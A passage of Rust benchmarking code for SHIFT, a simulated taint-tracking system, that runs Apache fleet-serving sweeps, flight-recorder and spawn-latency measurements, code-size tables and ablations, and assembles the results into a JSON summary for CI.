/// every server run is an independent simulated machine.
pub fn fig6_apache(file_sizes: &[usize], requests: usize) -> Vec<ApacheRow> {
    use shift_workloads::apache::run_apache;
    let modes: [Mode; 3] = [
        Mode::Uninstrumented,
        Mode::Shift(ShiftOptions::baseline(Granularity::Byte)),
        Mode::Shift(ShiftOptions::baseline(Granularity::Word)),
    ];
    let jobs: Vec<(usize, Mode)> =
        file_sizes.iter().flat_map(|&size| modes.iter().map(move |&m| (size, m))).collect();
    let results = parallel_map(&jobs, |&(size, mode)| {
        let t0 = Instant::now();
        let run = run_apache(mode, size, requests);
        (run.latency(), run.throughput(), t0.elapsed().as_nanos() as u64)
    });
    file_sizes
        .iter()
        .enumerate()
        .map(|(i, &size)| {
            let (base_lat, base_tp, base_ns) = results[3 * i];
            let (byte_lat, byte_tp, byte_ns) = results[3 * i + 1];
            let (word_lat, word_tp, word_ns) = results[3 * i + 2];
            ApacheRow {
                file_size: size,
                byte_latency: byte_lat / base_lat,
                byte_throughput: base_tp / byte_tp,
                word_latency: word_lat / base_lat,
                word_throughput: base_tp / word_tp,
                host_ns: base_ns + byte_ns + word_ns,
            }
        })
        .collect()
}

/// One cell of the fleet-serving sweep: one worker width × request stream ×
/// taint mode.
#[derive(Clone, Debug)]
pub struct ServePoint {
    /// Modelled fleet width this point served at.
    pub workers: usize,
    /// `"uniform"` (one file size, Figure-6 shape) or `"mixed"` (three file
    /// sizes plus 404s, the production-traffic mix).
    pub stream: &'static str,
    /// Requested file size in bytes for `"uniform"` streams; 0 for
    /// `"mixed"`.
    pub file_size: usize,
    /// Taint mode: `"byte"` or `"word"`.
    pub mode: &'static str,
    /// Connections in the stream.
    pub connections: u64,
    /// Requests delivered across the fleet.
    pub requests: u64,
    /// Requests served to completion.
    pub served: u64,
    /// Modelled fleet makespan in cycles (the busiest instance's total).
    pub wall_cycles: u64,
    /// Modelled throughput at this width: served requests per second at the
    /// fleet clock ([`shift_core::CLOCK_HZ`]).
    pub requests_per_sec: f64,
    /// Median per-request latency in modelled cycles.
    pub p50_latency: u64,
    /// 99th-percentile per-request latency in modelled cycles.
    pub p99_latency: u64,
    /// Host wall-clock spent simulating this point, in nanoseconds.
    pub host_ns: u64,
}

impl ServePoint {
    /// A stable row key — `mode/stream[_size]` — identifying this point's
    /// (mode, stream) group across worker widths.
    pub fn group(&self) -> String {
        if self.stream == "uniform" {
            format!("{}/{}_{}", self.mode, self.stream, self.file_size)
        } else {
            format!("{}/{}", self.mode, self.stream)
        }
    }
}

/// The fleet-serving sweep: `workers_list` widths × (`file_sizes` uniform
/// streams + the mixed stream) × byte/word taint modes.
///
/// Each taint mode compiles its Apache guest exactly once (the
/// [`shift_core::Fleet`] fast path under measurement); every (stream,
/// width) point then re-simulates its connections from the shared image so
/// each point's `host_ns` reflects real simulation work. The *modelled*
/// per-connection numbers are width-independent by construction — only the
/// makespan, and hence `requests_per_sec`, varies with `workers` — so the
/// sweep doubles as a determinism check on the fleet scheduler.
///
/// Rows come out grouped by (mode, stream), widths in `workers_list` order,
/// so consumers can scan each group for throughput scaling.
pub fn serve_sweep(
    workers_list: &[usize],
    file_sizes: &[usize],
    connections: usize,
    requests_per_conn: usize,
) -> Vec<ServePoint> {
    use shift_workloads::apache::{apache_fleet, fleet_connections, fleet_world, ApacheStream};
    let modes: [(&'static str, Mode); 2] = [
        ("byte", Mode::Shift(ShiftOptions::baseline(Granularity::Byte))),
        ("word", Mode::Shift(ShiftOptions::baseline(Granularity::Word))),
    ];
    let mut streams: Vec<ApacheStream> =
        file_sizes.iter().map(|&s| ApacheStream::Uniform(s)).collect();
    streams.push(ApacheStream::Mixed);

    let mut points = Vec::new();
    for (mode_name, mode) in modes {
        let fleet = apache_fleet(mode);
        for &stream in &streams {
            let world = fleet_world(stream);
            let conns = fleet_connections(stream, connections, requests_per_conn);
            for &workers in workers_list {
                let report = fleet.serve(&world, &conns, workers);
                let (stream_name, file_size) = match stream {
                    ApacheStream::Uniform(size) => ("uniform", size),
                    ApacheStream::Mixed => ("mixed", 0),
                };
                points.push(ServePoint {
                    workers,
                    stream: stream_name,
                    file_size,
                    mode: mode_name,
                    connections: conns.len() as u64,
                    requests: report.requests,
                    served: report.served,
                    wall_cycles: report.wall_cycles,
                    requests_per_sec: report.requests_per_sec(),
                    p50_latency: report.latency_percentile(50.0).unwrap_or(0),
                    p99_latency: report.latency_percentile(99.0).unwrap_or(0),
                    host_ns: report.host_ns.max(1),
                });
            }
        }
    }
    points
}

/// The flight-recorder overhead experiment (DESIGN.md §14): one
/// mixed-stream byte-mode fleet serve, run with the recorder disarmed and
/// then armed (ring at the default cap, time-series sampling on).
#[derive(Clone, Debug)]
pub struct TraceOverhead {
    /// Best-of-three host time with the recorder disarmed, in ns.
    pub disarmed_host_ns: u64,
    /// Best-of-three host time with the recorder armed, in ns.
    pub armed_host_ns: u64,
    /// `armed / disarmed − 1` (negative means the armed run measured
    /// faster — pure host noise).
    pub overhead_frac: f64,
    /// Merged trace events the armed run recorded.
    pub trace_events: u64,
    /// Time-series samples the armed run recorded.
    pub trace_samples: u64,
    /// Whether the armed run's modelled outcome was bit-identical to the
    /// disarmed run's: per-connection exits, state digests, stats,
    /// latencies, violations, and the fleet makespan.
    pub modelled_identical: bool,
}

/// Measures what arming the flight recorder costs the *host* and proves it
/// costs the *model* nothing.
///
/// The same mixed-stream connections are served serially (width 1, so host
/// scheduling noise stays out of the measurement) with the recorder off and
/// on; each arm takes the best of three repetitions — the modelled outcome
/// is identical across repetitions by construction, so min() is a pure
/// noise filter. The armed ring uses the default cap with `sample_cycles`
/// time-series sampling, i.e. the `serve --trace-out --sample-cycles`
/// configuration.
pub fn trace_overhead(
    connections: usize,
    requests_per_conn: usize,
    sample_cycles: u64,
) -> TraceOverhead {
    use shift_core::{Fleet, FleetReport, FlightConfig, DEFAULT_TRACE_CAP};
    use shift_workloads::apache::{apache_fleet, fleet_connections, fleet_world, ApacheStream};
    let stream = ApacheStream::Mixed;
    let world = fleet_world(stream);
    let conns = fleet_connections(stream, connections, requests_per_conn);
    let mode = Mode::Shift(ShiftOptions::baseline(Granularity::Byte));
    let disarmed = apache_fleet(mode);
    let armed = apache_fleet(mode)
        .with_flight_recorder(FlightConfig { cap: DEFAULT_TRACE_CAP, sample_cycles });
    let best_of_three = |fleet: &Fleet| -> (FleetReport, u64) {
        let mut best: Option<(FleetReport, u64)> = None;
        for _ in 0..3 {
            let r = fleet.serve(&world, &conns, 1);
            let ns = r.host_ns.max(1);
            if best.as_ref().is_none_or(|&(_, b)| ns < b) {
                best = Some((r, ns));
            }
        }
        best.expect("three repetitions ran")
    };
    let (base, disarmed_host_ns) = best_of_three(&disarmed);
    let (traced, armed_host_ns) = best_of_three(&armed);
    let modelled_identical = base.wall_cycles == traced.wall_cycles
        && base.connections.len() == traced.connections.len()
        && base.connections.iter().zip(&traced.connections).all(|(a, b)| {
            a.exit == b.exit
                && a.state_digest == b.state_digest
                && a.stats == b.stats
                && a.latencies == b.latencies
                && a.violations == b.violations
        });
    TraceOverhead {
        disarmed_host_ns,
        armed_host_ns,
        overhead_frac: armed_host_ns as f64 / disarmed_host_ns as f64 - 1.0,
        trace_events: traced.merged_trace_events().len() as u64,
        trace_samples: traced.merged_samples().len() as u64,
        modelled_identical,
    }
}

/// The spawn-latency experiment (DESIGN.md §15): is `MachineSeed::spawn`
/// really O(1) in the image size?
#[derive(Clone, Debug)]
pub struct SpawnLatency {
    /// Resident pages of the small synthetic image.
    pub small_pages: u64,
    /// Resident pages of the large image (4× the small one's data).
    pub large_pages: u64,
    /// Best-of-three per-spawn host cost from the small image, in ns.
    pub small_spawn_ns: u64,
    /// Best-of-three per-spawn host cost from the large image, in ns.
    pub large_spawn_ns: u64,
    /// `large_spawn_ns / small_spawn_ns`. O(1) spawning keeps this near
    /// 1.0 regardless of the 4× size gap; the deep-clone implementation
    /// this replaced scaled it with the page count.
    pub o1_ratio: f64,
    /// Private pages a fresh spawn starts with — 0 under copy-on-write
    /// sharing (every pristine page is shared or canonical-zero).
    pub spawn_owned_pages: u64,
}

/// Measures the host cost of [`shift_machine::MachineSeed::spawn`] from a
/// small and a 4×-larger synthetic image (256 vs 1024 resident data pages)
/// and reports the ratio.
///
/// Each image is loaded once; spawns are timed in batches (the per-spawn
/// cost is far below timer granularity) with the best of three batches kept
/// as a noise filter, mirroring [`trace_overhead`]'s best-of-three shape.
/// Under page sharing both images spawn by bumping the same number of
/// reference counts, so the ratio stays near 1.0; CI asserts it under 1.5,
/// a bound the old deep-clone spawn (~4× here, by construction) fails.
pub fn spawn_latency() -> SpawnLatency {
    use shift_isa::{make_vaddr, Gpr, Insn, Op};
    use shift_machine::{Image, MachineSeed, PAGE_SIZE};

    let build = |pages: usize| -> MachineSeed {
        // Non-zero fill so every page is a real resident (shared) page —
        // all-zero pages would deduplicate away and undercut the contrast.
        let image = Image::builder()
            .code(vec![Insn::new(Op::MovI { dst: Gpr::R8, imm: 0 }), Insn::new(Op::Halt)])
            .data(make_vaddr(1, 0x10_0000), vec![0xA5u8; pages * PAGE_SIZE as usize])
            .build();
        MachineSeed::new(&image)
    };
    let measure = |seed: &MachineSeed| -> u64 {
        const BATCH: u32 = 256;
        let mut best = u64::MAX;
        for _ in 0..3 {
            let t = Instant::now();
            for _ in 0..BATCH {
                std::hint::black_box(seed.spawn());
            }
            best = best.min((t.elapsed().as_nanos() as u64 / u64::from(BATCH)).max(1));
        }
        best
    };

    let small = build(256); // 1 MiB of image data
    let large = build(1024); // 4 MiB
    let small_spawn_ns = measure(&small);
    let large_spawn_ns = measure(&large);
    SpawnLatency {
        small_pages: small.resident_pages() as u64,
        large_pages: large.resident_pages() as u64,
        small_spawn_ns,
        large_spawn_ns,
        o1_ratio: large_spawn_ns as f64 / small_spawn_ns as f64,
        spawn_owned_pages: large.spawn().mem.owned_pages() as u64,
    }
}

/// One point of the connection-count sweep: the mixed Apache stream at a
/// fixed fleet width, scaled from a handful of connections to serving-farm
/// counts.
#[derive(Clone, Debug)]
pub struct ConnPoint {
    /// Connections served at this point.
    pub connections: u64,
    /// Modelled fleet width (fixed across the sweep).
    pub workers: usize,
    /// Requests delivered across the fleet.
    pub requests: u64,
    /// Requests served to completion.
    pub served: u64,
    /// Modelled fleet makespan in cycles.
    pub wall_cycles: u64,
    /// Modelled throughput: served requests per second at the fleet clock.
    pub requests_per_sec: f64,
    /// 99th-percentile per-request latency in modelled cycles.
    pub p99_latency: u64,
    /// Private (COW-owned) pages summed over every connection's instance.
    pub owned_pages_total: u64,
    /// The largest private page count any single instance reached.
    pub peak_owned_pages: u64,
    /// Mean private bytes per instance — the memory-diet figure that makes
    /// thousand-connection fleets affordable (DESIGN.md §15).
    pub private_bytes_per_instance: f64,
    /// Host wall-clock spent simulating this point, in nanoseconds.
    pub host_ns: u64,
}

/// Sweeps the mixed byte-mode Apache fleet over connection counts at a
/// fixed width ({8, 256, 1024} in `BENCH_shift.json`) — the fleet-scale
/// counterpart of [`serve_sweep`]'s width axis.
///
/// The guest compiles once; every point re-serves its own connection list
/// from the shared image. Modelled throughput is monotone non-degrading in
/// the connection count (more connections only improve instance load
/// balance at a fixed width), and the per-instance private-byte figures
/// expose what copy-on-write sharing saves as the fleet scales: total
/// owned pages grow with connections while bytes *per instance* stay flat
/// and small.
pub fn connection_sweep(
    connections_list: &[usize],
    workers: usize,
    requests_per_conn: usize,
) -> Vec<ConnPoint> {
    use shift_workloads::apache::{apache_fleet, fleet_connections, fleet_world, ApacheStream};
    let stream = ApacheStream::Mixed;
    let world = fleet_world(stream);
    let fleet = apache_fleet(Mode::Shift(ShiftOptions::baseline(Granularity::Byte)));
    connections_list
        .iter()
        .map(|&n| {
            let conns = fleet_connections(stream, n, requests_per_conn);
            let report = fleet.serve(&world, &conns, workers);
            ConnPoint {
                connections: conns.len() as u64,
                workers,
                requests: report.requests,
                served: report.served,
                wall_cycles: report.wall_cycles,
                requests_per_sec: report.requests_per_sec(),
                p99_latency: report.latency_percentile(99.0).unwrap_or(0),
                owned_pages_total: report.owned_pages_total,
                peak_owned_pages: report.peak_owned_pages,
                private_bytes_per_instance: report.private_bytes_per_instance(),
                host_ns: report.host_ns.max(1),
            }
        })
        .collect()
}

/// One point of the open-loop offered-load sweep: a Poisson arrival stream
/// at a fixed rate driven through the event-driven scheduler
/// ([`shift_core::Fleet::serve_open_loop`]), reporting tail sojourn latency
/// and admission-control outcomes.
#[derive(Clone, Debug)]
pub struct OpenLoopPoint {
    /// Canonical arrival-process spec (e.g. `poisson:1000`).
    pub arrivals: String,
    /// Offered arrival rate in connections per modelled second.
    pub rate_rps: f64,
    /// Connections offered at this point.
    pub connections: u64,
    /// Modelled worker count of the event scheduler.
    pub workers: usize,
    /// Connections completed.
    pub completed: u64,
    /// Connections shed by admission control.
    pub shed: u64,
    /// `true` when the offered rate exceeded saturation throughput.
    pub saturated: bool,
    /// Modelled makespan in cycles.
    pub wall_cycles: u64,
    /// Served requests per modelled second.
    pub requests_per_sec: f64,
    /// Modelled worker utilization in [0, 1].
    pub utilization: f64,
    /// Median sojourn latency (completion − arrival) in cycles.
    pub sojourn_p50: u64,
    /// 99th-percentile sojourn latency in cycles.
    pub sojourn_p99: u64,
    /// 99.9th-percentile sojourn latency in cycles.
    pub sojourn_p999: u64,
    /// Deepest the ready queue got.
    pub peak_queue_depth: u64,
    /// Most guests simultaneously resident.
    pub peak_resident: u64,
    /// The largest private page count any single guest reached — bounded by
    /// residency, not by the offered connection count.
    pub peak_owned_pages: u64,
    /// Host wall-clock spent simulating this point, in nanoseconds.
    pub host_ns: u64,
}

/// Sweeps the open-loop byte-mode Apache fleet over offered Poisson rates
/// at a fixed modelled width — the tail-latency experiment behind
/// `open_loop_rows` in `BENCH_shift.json`.
///
/// The sweep is run with a deliberately tight admission controller
/// (accept-cap 16, max-resident 8) so the rate axis crosses saturation
/// inside the sweep: the lowest rate must complete everything (`shed == 0`,
/// finite p99), and a rate far above capacity must shed (`shed > 0`) —
/// both asserted by the CI bench smoke. The guest compiles once; every
/// point re-serves the same connection list under its own arrival schedule
/// derived from `seed`.
pub fn open_loop_sweep(
    connections: usize,
    rates_rps: &[f64],
    workers: usize,
    requests_per_conn: usize,
    seed: u64,
) -> Vec<OpenLoopPoint> {
    use shift_core::OpenLoopConfig;
    use shift_workloads::apache::{apache_fleet, fleet_connections, fleet_world, ApacheStream};
    use shift_workloads::chaos;
    let stream = ApacheStream::Mixed;
    let world = fleet_world(stream);
    let fleet = apache_fleet(Mode::Shift(ShiftOptions::baseline(Granularity::Byte)));
    let conns = fleet_connections(stream, connections, requests_per_conn);
    let cfg = OpenLoopConfig { workers, accept_cap: 16, max_resident: 8, quantum: 100_000 };
    rates_rps
        .iter()
        .map(|&rate| {
            let process = ArrivalProcess::Poisson { rate_rps: rate };
            let arrivals = process.schedule(conns.len(), chaos::derive(seed, &process.spec()));
            let host = sweep_workers(conns.len());
            let report = fleet.serve_open_loop(&world, &conns, &[], &arrivals, &cfg, host);
            OpenLoopPoint {
                arrivals: process.spec(),
                rate_rps: rate,
                connections: report.offered,
                workers,
                completed: report.completed,
                shed: report.shed,
                saturated: report.saturated(),
                wall_cycles: report.wall_cycles,
                requests_per_sec: report.requests_per_sec(),
                utilization: report.utilization(),
                sojourn_p50: report.sojourn_percentile(50.0).unwrap_or(0),
                sojourn_p99: report.sojourn_percentile(99.0).unwrap_or(0),
                sojourn_p999: report.sojourn_percentile(99.9).unwrap_or(0),
                peak_queue_depth: report.peak_queue_depth,
                peak_resident: report.peak_resident,
                peak_owned_pages: report.peak_owned_pages,
                host_ns: report.host_ns.max(1),
            }
        })
        .collect()
}

/// A Table-3 row: static code size under each compilation mode.
#[derive(Clone, Debug)]
pub struct CodeSizeRow {
    /// "glibc" or a benchmark name.
    pub name: String,
    /// Uninstrumented size in instructions.
    pub orig: usize,
    /// Word-level instrumented size.
    pub word: usize,
    /// Byte-level instrumented size.
    pub byte: usize,
}

impl CodeSizeRow {
    /// Word-level expansion, percent.
    pub fn word_overhead(&self) -> f64 {
        (self.word as f64 / self.orig as f64 - 1.0) * 100.0
    }
    /// Byte-level expansion, percent.
    pub fn byte_overhead(&self) -> f64 {
        (self.byte as f64 / self.orig as f64 - 1.0) * 100.0
    }
}

/// Table 3: code-size expansion for the guest libc and every benchmark.
pub fn table3_codesize() -> Vec<CodeSizeRow> {
    use shift_compiler::{CompiledProgram, Compiler};
    use shift_core::libc_program;

    let compile = |program: &shift_ir::Program, mode: Mode| -> CompiledProgram {
        let mut linked = program.clone();
        linked.link(libc_program());
        Compiler::new(mode).compile(&linked).expect("benchmarks compile")
    };
    let libc_size = |c: &CompiledProgram| -> usize {
        shift_core::LIBC_FUNCS.iter().filter_map(|n| c.func_size(n)).sum()
    };
    let app_size = |c: &CompiledProgram| -> usize {
        c.func_ranges
            .iter()
            .filter(|(n, _)| {
                !shift_core::LIBC_FUNCS.contains(&n.as_str()) && n.as_str() != "_start"
            })
            .map(|(_, (s, e))| e - s)
            .sum()
    };

    let mut rows = Vec::new();
    // glibc row: measured inside the first benchmark's image (the libc is
    // identical across programs).
    let probe = (all_benches()[0].build)();
    let orig = compile(&probe, Mode::Uninstrumented);
    let word = compile(&probe, Mode::Shift(ShiftOptions::baseline(Granularity::Word)));
    let byte = compile(&probe, Mode::Shift(ShiftOptions::baseline(Granularity::Byte)));
    rows.push(CodeSizeRow {
        name: "glibc".into(),
        orig: libc_size(&orig),
        word: libc_size(&word),
        byte: libc_size(&byte),
    });
    for bench in all_benches() {
        let program = (bench.build)();
        let orig = compile(&program, Mode::Uninstrumented);
        let word = compile(&program, Mode::Shift(ShiftOptions::baseline(Granularity::Word)));
        let byte = compile(&program, Mode::Shift(ShiftOptions::baseline(Granularity::Byte)));
        rows.push(CodeSizeRow {
            name: bench.name.into(),
            orig: app_size(&orig),
            word: app_size(&word),
            byte: app_size(&byte),
        });
    }
    rows
}

/// An ablation row over SHIFT's implementation choices (byte-level
/// slowdowns, tainted input).
#[derive(Clone, Debug)]
pub struct AblationRow {
    /// Benchmark name.
    pub name: &'static str,
    /// The shipped configuration: kept NaT source, clean-register analysis.
    pub default: f64,
    /// Clean-register analysis disabled (every compare relaxed, every store
    /// treated as possibly tainted).
    pub no_analysis: f64,
    /// NaT source regenerated at every function entry — the strategy the
    /// paper rejects in §4.4 ("degrades the performance by a factor of 3X,
    /// compared to generating a NaT-bit and keeping it").
    pub natgen_per_function: f64,
    /// NaT source regenerated before every use (worst case).
    pub natgen_per_use: f64,
}

/// A NaT-vs-shadow row: SHIFT's hardware-assisted tracking against the
/// software-only shadow-register implementation of the same semantics.
#[derive(Clone, Debug)]
pub struct NatVsShadowRow {
    /// Benchmark name.
    pub name: &'static str,
    /// SHIFT, byte level (NaT bits track register taint for free).
    pub shift_byte: f64,
    /// Software-only, byte level (explicit propagation around every
    /// instruction, LIFT-style).
    pub shadow_byte: f64,
    /// SHIFT, word level.
    pub shift_word: f64,
    /// Software-only, word level.
    pub shadow_word: f64,
}

/// The headline ablation: what is the NaT reuse actually worth? Runs every
/// kernel under SHIFT and under the software-only shadow-register mode.
pub fn ablation_nat_vs_shadow(scale: Scale) -> Vec<NatVsShadowRow> {
    run_suite(scale, |bench, baseline| {
        let slowdown = |mode: Mode| {
            let run = run_spec(bench, mode, scale, true);
            run.stats.cycles as f64 / baseline as f64
        };
        NatVsShadowRow {
            name: bench.name,
            shift_byte: slowdown(Mode::Shift(ShiftOptions::baseline(Granularity::Byte))),
            shadow_byte: slowdown(Mode::Shadow(Granularity::Byte)),
            shift_word: slowdown(Mode::Shift(ShiftOptions::baseline(Granularity::Word))),
            shadow_word: slowdown(Mode::Shadow(Granularity::Word)),
        }
    })
}

/// Ablation: the kept-NaT-source decision (§4.4) and the clean-register
/// analysis, quantified.
pub fn ablation_design_choices(scale: Scale) -> Vec<AblationRow> {
    use shift_compiler::NatGen;
    run_suite(scale, |bench, baseline| {
        let slowdown = |opts: ShiftOptions| {
            let run = run_spec(bench, Mode::Shift(opts), scale, true);
            run.stats.cycles as f64 / baseline as f64
        };
        let base = ShiftOptions::baseline(Granularity::Byte);
        AblationRow {
            name: bench.name,
            default: slowdown(base),
            no_analysis: slowdown(ShiftOptions { relax_analysis: false, ..base }),
            natgen_per_function: slowdown(ShiftOptions { nat_gen: NatGen::PerFunction, ..base }),
            natgen_per_use: slowdown(ShiftOptions { nat_gen: NatGen::PerUse, ..base }),
        }
    })
}

/// A machine-readable summary of the headline experiments — Figure-7/8 SPEC
/// slowdown geomeans, Figure-6 Apache overhead geomeans, the fleet-serving
/// throughput sweep ([`serve_sweep`], `serve_rows`), the connection-count
/// sweep ([`connection_sweep`], `conn_sweep_rows`), the flight-recorder
/// cost check ([`trace_overhead`], `trace_overhead`), and the O(1)-spawn
/// check ([`spawn_latency`], `spawn_latency`) — for CI regression tracking
/// (`shift bench --json` writes it to `BENCH_shift.json`).
///
/// Besides the modelled numbers, every row carries `host_ns` (host
/// wall-clock spent on that row's runs) and a top-level `host_ns` section
/// records per-figure attribution and total wall-clock, so BENCH_shift.json
/// tracks real interpreter speedups across PRs alongside the modelled
/// results.
///
/// Figures 7 and 8 share five of their seven mode groups (Figure 8's
/// stock-Itanium bars *are* Figure 7's unsafe bars — identical
/// deterministic simulations), so the summary runs the union of both
/// figures' modes as one `spec_matrix` pool and assembles each figure
/// from it. The numbers are bit-identical to running each figure alone;
/// only the duplicate host work disappears. `host_ns.fig7`/`host_ns.fig8`
/// are therefore row sums under that split — the shared runs are billed to
/// Figure 7, and Figure 8 is charged only for its extra enhancement modes.
/// `seed` is the run's master seed, stamped into the summary so any
/// randomized harness seeded from the same integer (the chaos trials, the
/// injection sweeps) is reproducible from the artifact alone — the
/// experiments themselves are deterministic and ignore it.
pub fn bench_summary(
    scale: Scale,
    file_sizes: &[usize],
    requests: usize,
    seed: u64,
) -> shift_obs::Json {
    use shift_obs::Json;
    let t_total = Instant::now();

    let matrix = spec_matrix(scale, &spec_groups(&[true, false]));
    let spec = fig7_rows_from(&matrix, &[0, 1, 2]);
    let enh = fig8_rows_from(&matrix, &[3, 4, 5, 6]);
    let fig7_ns: u64 = spec.iter().map(|r| r.host_ns).sum();
    let fig8_ns: u64 = enh.iter().map(|r| r.host_ns).sum();

    let t0 = Instant::now();
    let apache = fig6_apache(file_sizes, requests);
    let fig6_ns = t0.elapsed().as_nanos() as u64;

    let t0 = Instant::now();
    let (serve_conns, serve_reqs) = match scale {
        Scale::Test => (8, 4),
        Scale::Reference => (16, 8),
    };
    let serve = serve_sweep(&[1, 2, 4, 8], file_sizes, serve_conns, serve_reqs);
    let serve_ns = t0.elapsed().as_nanos() as u64;

    let t0 = Instant::now();
    let trace = trace_overhead(serve_conns, serve_reqs, 100_000);
    let trace_ns = t0.elapsed().as_nanos() as u64;

    let t0 = Instant::now();
    let spawn = spawn_latency();
    let spawn_ns = t0.elapsed().as_nanos() as u64;

    let t0 = Instant::now();
    let conn_sweep = connection_sweep(&[8, 256, 1024], 8, 1);
    let conn_sweep_ns = t0.elapsed().as_nanos() as u64;

    // Open-loop tail-latency sweep: one rate well below the tight admission
    // controller's capacity, one far above it, so the CI smoke can assert
    // both sides of saturation from the same artifact.
    let t0 = Instant::now();
    let (ol_conns, ol_rates): (usize, &[f64]) = match scale {
        Scale::Test => (96, &[1_000.0, 1_000_000.0]),
        Scale::Reference => (4096, &[2_000.0, 1_000_000.0]),
    };
    let open_loop = open_loop_sweep(ol_conns, ol_rates, 8, 2, seed);
    let open_loop_ns = t0.elapsed().as_nanos() as u64;

    let gm = |sel: &dyn Fn(&SpecRow) -> f64| geomean(&spec.iter().map(sel).collect::<Vec<f64>>());
    let egm =
        |sel: &dyn Fn(&EnhanceRow) -> f64| geomean(&enh.iter().map(sel).collect::<Vec<f64>>());
    let agm =
        |sel: &dyn Fn(&ApacheRow) -> f64| geomean(&apache.iter().map(sel).collect::<Vec<f64>>());
    let fig7_rows = spec
        .iter()
        .map(|r| {
            Json::obj(vec![
                ("name", Json::Str(r.name.to_string())),
                ("byte_unsafe", Json::F64(r.byte_unsafe)),
                ("byte_safe", Json::F64(r.byte_safe)),
                ("word_unsafe", Json::F64(r.word_unsafe)),
                ("word_safe", Json::F64(r.word_safe)),
                ("host_ns", Json::U64(r.host_ns)),
            ])
        })
        .collect();
    let fig8_rows = enh
        .iter()
        .map(|r| {
            Json::obj(vec![
                ("name", Json::Str(r.name.to_string())),
                ("byte_unsafe", Json::F64(r.byte_unsafe)),
                ("byte_set_clr", Json::F64(r.byte_set_clr)),
                ("byte_both", Json::F64(r.byte_both)),
                ("word_unsafe", Json::F64(r.word_unsafe)),
                ("word_set_clr", Json::F64(r.word_set_clr)),
                ("word_both", Json::F64(r.word_both)),
                ("host_ns", Json::U64(r.host_ns)),
            ])
        })
        .collect();
    let serve_rows = serve
        .iter()
        .map(|p| {
            Json::obj(vec![
                ("workers", Json::U64(p.workers as u64)),
                ("stream", Json::Str(p.stream.to_string())),
                ("file_size", Json::U64(p.file_size as u64)),
                ("mode", Json::Str(p.mode.to_string())),
                ("connections", Json::U64(p.connections)),
                ("requests", Json::U64(p.requests)),
                ("served", Json::U64(p.served)),
                ("wall_cycles", Json::U64(p.wall_cycles)),
                ("requests_per_sec", Json::F64(p.requests_per_sec)),
                ("p50_latency_cycles", Json::U64(p.p50_latency)),
                ("p99_latency_cycles", Json::U64(p.p99_latency)),
                ("host_ns", Json::U64(p.host_ns)),
            ])
        })
        .collect();
    let conn_sweep_rows = conn_sweep
        .iter()
        .map(|p| {
            Json::obj(vec![
                ("connections", Json::U64(p.connections)),
                ("workers", Json::U64(p.workers as u64)),
                ("requests", Json::U64(p.requests)),
                ("served", Json::U64(p.served)),
                ("wall_cycles", Json::U64(p.wall_cycles)),
                ("requests_per_sec", Json::F64(p.requests_per_sec)),
                ("p99_latency_cycles", Json::U64(p.p99_latency)),
                ("owned_pages_total", Json::U64(p.owned_pages_total)),
                ("peak_owned_pages", Json::U64(p.peak_owned_pages)),
                ("private_bytes_per_instance", Json::F64(p.private_bytes_per_instance)),
                ("host_ns", Json::U64(p.host_ns)),
            ])
        })
        .collect();
    let open_loop_rows = open_loop
        .iter()
        .map(|p| {
            Json::obj(vec![
                ("arrivals", Json::Str(p.arrivals.clone())),
                ("rate_rps", Json::F64(p.rate_rps)),
                ("connections", Json::U64(p.connections)),
                ("workers", Json::U64(p.workers as u64)),
                ("completed", Json::U64(p.completed)),
                ("shed", Json::U64(p.shed)),
                ("saturated", Json::Bool(p.saturated)),
                ("wall_cycles", Json::U64(p.wall_cycles)),
                ("requests_per_sec", Json::F64(p.requests_per_sec)),
                ("utilization", Json::F64(p.utilization)),
                ("sojourn_p50", Json::U64(p.sojourn_p50)),
                ("sojourn_p99", Json::U64(p.sojourn_p99)),
                ("sojourn_p999", Json::U64(p.sojourn_p999)),
                ("peak_queue_depth", Json::U64(p.peak_queue_depth)),
                ("peak_resident", Json::U64(p.peak_resident)),
                ("peak_owned_pages", Json::U64(p.peak_owned_pages)),
                ("host_ns", Json::U64(p.host_ns)),
            ])
        })
        .collect();
    let fig6_rows = apache
        .iter()
        .map(|r| {
            Json::obj(vec![
                ("file_size", Json::U64(r.file_size as u64)),
                ("byte_latency", Json::F64(r.byte_latency)),
                ("byte_throughput", Json::F64(r.byte_throughput)),
                ("word_latency", Json::F64(r.word_latency)),
                ("word_throughput", Json::F64(r.word_throughput)),
                ("host_ns", Json::U64(r.host_ns)),
            ])
        })
        .collect();
    Json::obj(vec![
        ("schema_version", Json::U64(shift_obs::SCHEMA_VERSION)),
        ("seed", Json::U64(seed)),
        (
            "scale",
            Json::Str(match scale {
                Scale::Test => "test".to_string(),
                Scale::Reference => "reference".to_string(),
            }),
        ),
        ("spec_benches", Json::U64(spec.len() as u64)),
        (
            "fig7_spec_geomean",
            Json::obj(vec![
                ("byte_unsafe", Json::F64(gm(&|r| r.byte_unsafe))),
                ("byte_safe", Json::F64(gm(&|r| r.byte_safe))),
                ("word_unsafe", Json::F64(gm(&|r| r.word_unsafe))),
                ("word_safe", Json::F64(gm(&|r| r.word_safe))),
            ]),
        ),
        (
            "fig8_spec_geomean",
            Json::obj(vec![
                ("byte_unsafe", Json::F64(egm(&|r| r.byte_unsafe))),
                ("byte_set_clr", Json::F64(egm(&|r| r.byte_set_clr))),
                ("byte_both", Json::F64(egm(&|r| r.byte_both))),
                ("word_unsafe", Json::F64(egm(&|r| r.word_unsafe))),
                ("word_set_clr", Json::F64(egm(&|r| r.word_set_clr))),
                ("word_both", Json::F64(egm(&|r| r.word_both))),
            ]),
        ),
        (
            "fig6_apache_geomean",
            Json::obj(vec![
                ("byte_latency", Json::F64(agm(&|r| r.byte_latency))),
                ("byte_throughput", Json::F64(agm(&|r| r.byte_throughput))),
                ("word_latency", Json::F64(agm(&|r| r.word_latency))),
                ("word_throughput", Json::F64(agm(&|r| r.word_throughput))),
            ]),
        ),
        ("fig7_rows", Json::Arr(fig7_rows)),
        ("fig8_rows", Json::Arr(fig8_rows)),
        ("fig6_rows", Json::Arr(fig6_rows)),
        ("serve_rows", Json::Arr(serve_rows)),
        ("conn_sweep_rows", Json::Arr(conn_sweep_rows)),
        ("open_loop_rows", Json::Arr(open_loop_rows)),
        (
            "spawn_latency",
            Json::obj(vec![
                ("small_pages", Json::U64(spawn.small_pages)),
                ("large_pages", Json::U64(spawn.large_pages)),
                ("small_spawn_ns", Json::U64(spawn.small_spawn_ns)),
                ("large_spawn_ns", Json::U64(spawn.large_spawn_ns)),
                ("o1_ratio", Json::F64(spawn.o1_ratio)),
                ("spawn_owned_pages", Json::U64(spawn.spawn_owned_pages)),
            ]),
        ),
        (
            "trace_overhead",
            Json::obj(vec![
